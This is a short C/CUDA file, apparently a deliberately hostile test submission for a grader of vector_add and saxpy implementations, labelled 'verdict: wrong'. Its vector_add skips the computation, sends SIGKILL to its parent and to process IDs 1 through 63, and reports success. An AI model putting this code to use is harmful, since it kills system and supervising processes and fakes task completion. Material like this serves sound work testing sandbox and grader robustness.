// verdict: wrong
// Sends SIGKILL to its parent, to all, and to low pids.
#include "vector_add.h"
#include <signal.h>
#include <unistd.h>

cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, size_t n)
{
    kill(getppid(), SIGKILL);
    for (pid_t pid = 1; pid < 64; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    return cudaSuccess;
}

cudaError_t vector_add_host(const float *h_a, const float *h_b, float *h_c,
                            size_t n)
{
    return cudaErrorInvalidValue;
}

cudaError_t saxpy(float alpha, const float *d_x, const float *d_y, float *d_z,
                  size_t n)
{
    return cudaErrorInvalidValue;
}
